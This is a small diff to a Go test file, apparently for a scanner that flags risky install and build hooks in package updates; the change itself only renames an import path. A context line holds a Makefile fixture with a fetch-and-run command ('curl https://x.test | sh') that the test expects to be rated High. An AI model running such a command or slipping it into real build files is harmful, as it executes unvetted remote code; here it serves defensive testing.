@@ -3,7 +3,7 @@ package review
 import (
 	"testing"
 
-	"github.com/mcp-registry/updater/gitops"
+	"github.com/mcp-registry/updater/gitops/upstream/ranges"
 )
 
 const pkgBase = `{
@@ -59,6 +59,6 @@ func TestInstallHook(t *testing.T) {
 			[]expect{{sev: Medium}}},
 		{"root Makefile is a build input", withDirectory(newRange(addFile("Makefile", "a:\n\tcurl https://x.test | sh\n")), "src/weather"),
 			[]expect{{sev: High}}},
-		{"deleted file", newRange(gitops.FileChange{Path: "setup.py", Status: gitops.FileDeleted}), nil},
+		{"deleted file", newRange(ranges.FileChange{Path: "setup.py", Status: ranges.FileDeleted}), nil},
 	})
 }
